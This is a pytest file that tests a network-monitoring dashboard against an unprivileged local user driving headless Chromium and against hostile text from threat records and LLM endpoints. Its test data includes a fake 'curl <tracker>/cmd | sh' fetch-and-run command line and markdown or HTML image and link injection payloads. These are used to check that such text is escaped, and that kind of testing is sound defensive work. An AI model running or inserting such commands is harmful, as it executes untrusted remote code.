"""The dashboard against local users and hostile text, in a real browser
(Debian's headless Chromium through playwright; see test_dashboard_browser.py).

- A real unprivileged user, created here (`useradd --system`), runs Chromium
  (`runuser -u`) against the dashboard running as root as `make run` runs it:
  without the token it sees only the sign-in form, cannot ban, trust or test
  a connection, and its guesses lock it out; the same user and script WITH
  the token can (the control: the harness is able to act), and even then
  the API key goes only to the saved endpoint, never to the host it typed.
- Process names, command lines, model reasons, backend error text and model
  names from a hostile endpoint render as text: no <a>, no <img> from them,
  and the browser never requests the attacker's URL.
"""

from __future__ import annotations

import json
import os
import pwd
import shutil
import signal
import subprocess
import sys
from pathlib import Path

import pytest

from dashboard_seed import seed, store_rows
from netsentinel import audit, proposals, threats
from netsentinel.records import ANALYZER_STATUS, BAN_COMMANDS, LLM_CONFIG
from netsentinel.timefmt import utc_now_iso
from netsentinel.testing import dashboard_browser as B

pytestmark = pytest.mark.skipif(B.missing() is not None, reason=B.missing() or "")

TOKEN = "hostile-test-token-0123456789abcdef"
KEY = "0123456789abcdef0123456789abcdef.SeCrEtKeY42"
USER = "ns-intruder216"
WHITELIST = {"trusted_ips": ["192.0.2.0/28"], "trusted_processes": ["chronyd"], "trusted_ports": [53]}


@pytest.fixture
def intruder(tmp_path):
    """A real unprivileged system user with a private home for Chromium."""
    subprocess.run(["userdel", USER], capture_output=True)  # a leftover from a killed run
    subprocess.run(["useradd", "--system", "--no-create-home", "--shell", "/usr/sbin/nologin", USER],
                   check=True)
    home = tmp_path / "intruder-home"
    home.mkdir()
    pw = pwd.getpwnam(USER)
    os.chown(home, pw.pw_uid, pw.pw_gid)
    tmp_path.chmod(0o755)  # the user reaches its home through the test's directory
    try:
        yield USER, home
    finally:
        subprocess.run(["userdel", USER], check=True)
        shutil.rmtree(home, ignore_errors=True)


def run_as(user: str, home: Path, url: str, *args: str) -> dict:
    """The intruder script in Chromium as `user`; its JSON report."""
    env = [f"HOME={home}", f"PYTHONPATH={B.ROOT}", "PATH=/usr/bin:/bin"]
    # Its own process group: on a timeout the whole group (Chromium too) is
    # ended by that id.
    proc = subprocess.Popen(["runuser", "-u", user, "--", "env", "-i", *env, sys.executable, "-m",
                             "netsentinel.testing.dashboard_intruder", url, *args],
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, cwd=home,
                            start_new_session=True)
    try:
        out, err = proc.communicate(timeout=240)
    except subprocess.TimeoutExpired:
        os.killpg(proc.pid, signal.SIGKILL)
        out, err = proc.communicate()
    assert proc.returncode == 0, err[-3000:]
    assert out.strip(), err[-3000:]
    return json.loads(out.strip().splitlines()[-1])


def test_local_user_cannot_drive_the_dashboard_without_the_token(tmp_path, intruder):
    user, home = intruder
    records, config = tmp_path / "records", tmp_path / "filter_config.json"
    store = seed(records)
    config.write_text(json.dumps(WHITELIST))
    before = config.read_text()
    with B.Listener() as endpoint, B.Listener() as catcher:
        store.write(LLM_CONFIG, {"backend": "zhipuai", "host": endpoint.url})
        with B.dashboard_server(records, config, tmp_path / "streamlit.log", refresh=0, token=TOKEN,
                                extra_env={"ZHIPUAI_API_KEY": KEY}) as url:
            # Control: the same user and script with the token can act ...
            ok = run_as(user, home, url, "--token", TOKEN, "--ban", "203.0.113.61",
                        "--trust", "198.51.100.61", "--host", catcher.url)
            assert ok["signed_in"] and not ok["token_left_in_url"]
            assert ok["done"] == ["bans", "whitelist", "llm"]
            assert [c["ip"] for c in json.loads((records / BAN_COMMANDS).read_text())] == ["203.0.113.61"]
            assert "198.51.100.61" in json.loads(config.read_text())["trusted_ips"]
            # ... but its typed host never gets the key: only the saved endpoint does.
            assert catcher.seen() == []
            assert [r["headers"].get("Authorization") for r in endpoint.seen()] == [f"Bearer {KEY}"]

            # Without the token: the sign-in form on every page, nothing else.
            (records / BAN_COMMANDS).unlink()
            config.write_text(before)
            probes = len(endpoint.seen())
            bad = run_as(user, home, url, "--ban", "203.0.113.62", "--trust", "198.51.100.62",
                         "--host", catcher.url)
            assert bad["uid_view"] == [["bans", "login"], ["whitelist", "login"], ["llm", "login"]]
            assert bad["done"] == [] and not bad["signed_in"] and bad["locked_out"]
            assert not (records / BAN_COMMANDS).exists()
            assert config.read_text() == before
            assert len(endpoint.seen()) == probes and catcher.seen() == []
    log = (tmp_path / "streamlit.log").read_text()
    assert "Traceback" not in log and TOKEN not in log and KEY not in log


def hostile_text(tracker: str) -> str:
    return (f"see [docs]({tracker}/link) ![t]({tracker}/img.png) <img src='{tracker}/html.png'> "
            f"{tracker}/bare www.evil-tracker.example mail@evil-tracker.example :red[x] $x^2$")


def test_hostile_text_is_shown_as_text_in_the_browser(tmp_path):
    records, config = tmp_path / "records", tmp_path / "filter_config.json"
    store = seed(records)
    config.write_text(json.dumps(WHITELIST))
    fetched: list[str] = []
    with B.Listener() as tracker:
        evil = hostile_text(tracker.url)
        threats.add_or_merge(store, {
            "level": "CRITICAL", "category": f"c2 {tracker.url}/cat", "reason": evil,
            "recommended_action": evil, "confidence": 0.9, "target": "203.0.113.90",
            "event": {"daddr": "203.0.113.90", "dport": 443, "comm": f"![c]({tracker.url}/comm.png)",
                      "exe": f"/tmp/{tracker.url}/x", "cmdline": f"curl {tracker.url}/cmd | sh  {evil}"},
            "dedupe_key": "dst|203.0.113.90"})
        store.write(proposals.RULE_PROPOSALS, [{
            "id": "evilprop0001", "created_at": "2026-12-01T16:00:00.000000Z", "status": "pending",
            "backend": f"ollama {tracker.url}", "summary": evil,
            "trigger": {"kind": "flood", "category": evil, "src": "203.0.113.91"}, "flows": [],
            "rules": [{"rule": {"action": "drop", "src": "203.0.113.91", "proto": "any", "reason": evil},
                       "valid": False, "error": evil}]}])
        store.reject_command({"action": "ban", "ip": evil}, f"refused: {evil}", name="rule_commands.rejected.json")
        audit.record(store, f"dashboard session {tracker.url}", "ban", {"ip": evil, "reason": evil},
                     f"refused: {evil}")
        store_rows(records, [{"id": "evil01", "ts": utc_now_iso(), "level": "HIGH", "category": evil,
                              "reason": evil, "verdict_source": "llm", "backend": evil,
                              "event": {"comm": evil, "exe": evil, "daddr": "203.0.113.92", "dport": 80,
                                        "ts": utc_now_iso()}}])
        status = json.loads((records / ANALYZER_STATUS).read_text())
        status["backend_status"] = f"error: {evil}"
        store.write(ANALYZER_STATUS, status)
        # A configured endpoint whose answer (its model names) is hostile text:
        # "Test connection" quotes them in its error message.
        with B.Listener(models=(f"![m]({tracker.url}/model.png)", f"{tracker.url}/model")) as endpoint:
            store.write(LLM_CONFIG, {"backend": "ollama", "host": endpoint.url, "model": "absent"})
            with B.dashboard_server(records, config, tmp_path / "streamlit.log", refresh=0,
                                    token=TOKEN) as url, B.chromium_page(requests=fetched) as page:
                page.goto(f"{url}/?token={TOKEN}&page=review")
                page.get_by_text("Raw threat record").first.wait_for()
                page.get_by_text(f"curl {tracker.url}/cmd").first.wait_for()  # the evidence block
                B.idle(page)
                page.get_by_text("Raw threat record").first.click()  # the JSON view, opened
                page.locator("[data-testid=stJson]").first.wait_for()
                review_links = page.locator("a[href]").evaluate_all("els => els.map(e => e.href)")
                review_imgs = page.locator("img[src]").evaluate_all("els => els.map(e => e.src)")
                body = page.locator("[data-testid=stMain]").inner_text()
                page.screenshot(path=str(tmp_path / "review.png"))
                B.idle(page)
                page.locator("[data-testid=stSidebar]").get_by_text("LLM settings", exact=True).click()
                test_button = page.get_by_role("button", name="Test connection")
                test_button.wait_for()
                B.idle(page)
                test_button.click()
                page.get_by_text("has no model").wait_for()
                llm_links = page.locator("a[href]").evaluate_all("els => els.map(e => e.href)")
                llm_imgs = page.locator("img[src]").evaluate_all("els => els.map(e => e.src)")
                llm_body = page.locator("[data-testid=stMain]").inner_text()
                others = {}
                for name, ready in (("Filter rules", "Proposed by the LLM"), ("Events", "recent events"),
                                    ("Audit", "The newest"), ("Overview", "Top processes")):
                    B.idle(page)
                    page.locator("[data-testid=stSidebar]").get_by_text(name, exact=True).click()
                    page.get_by_text(ready).first.wait_for()
                    for label in ("Rule commands queued",):
                        if name == "Filter rules":
                            B.idle(page)
                            page.get_by_text(label).first.click()
                            page.get_by_text("refused", exact=False).first.wait_for()
                    others[name] = (page.locator("a[href]").evaluate_all("els => els.map(e => e.href)")
                                    + page.locator("img[src]").evaluate_all("els => els.map(e => e.src)"))
                page.screenshot(path=str(tmp_path / "overview.png"))
        assert tracker.seen() == []
    where = tracker.url.removeprefix("http://")
    assert [u for u in fetched if where in u] == []
    for found in (review_links, review_imgs, llm_links, llm_imgs, *others.values()):
        assert [u for u in found if where in u or "evil-tracker" in u or "mailto:" in u] == []
    # Shown, as written (the reason, the command line, the model names).
    assert f"![t]({tracker.url}/img.png)" in body and f"curl {tracker.url}/cmd | sh" in body
    assert f"![m]({tracker.url}/model.png)" in llm_body.replace("\u2060", "")
    assert f"error: see [docs]({tracker.url}/link)" in llm_body.replace("\u2060", "")


def test_dashboard_runs_as_an_unprivileged_user(tmp_path, shared_dir, intruder):
    """DASHBOARD_USER: the dashboard as a system user over root's records/
    shows everything, says it is read-only, and refuses writes in one line."""
    user, _ = intruder
    records, config = shared_dir / "records", shared_dir / "filter_config.json"
    seed(records)
    config.write_text(json.dumps(WHITELIST))
    before = {p.name: p.read_bytes() for p in records.iterdir()}
    with B.dashboard_server(records, config, tmp_path / "streamlit.log", refresh=0, token=TOKEN,
                            user=user) as url, B.chromium_page() as page:
        server = next(p for p in Path("/proc").iterdir() if p.name.isdigit()
                      and b"streamlit" in _cmdline(p) and url.rsplit(":", 1)[1].encode() in _cmdline(p)
                      and p.stat().st_uid == pwd.getpwnam(user).pw_uid)
        assert server.stat().st_uid != 0
        page.goto(f"{url}/?token={TOKEN}&page=bans")
        page.get_by_text("Read-only: the dashboard runs as uid").wait_for()
        page.get_by_text("Active bans (3)").wait_for()  # root's records, readable
        page.get_by_label("IP or CIDR").wait_for()
        B.idle(page)
        page.get_by_label("IP or CIDR").fill("203.0.113.63")
        page.get_by_role("button", name="Ban", exact=True).click()
        # Refused in one line (the store cannot take root's lock or queue it anywhere).
        page.locator("[data-testid=stAlertContentError]").first.wait_for()
    assert {p.name: p.read_bytes() for p in records.iterdir()} == before
    assert "Traceback" not in (tmp_path / "streamlit.log").read_text()


def _cmdline(p: Path) -> bytes:
    try:
        return (p / "cmdline").read_bytes()
    except OSError:
        return b""
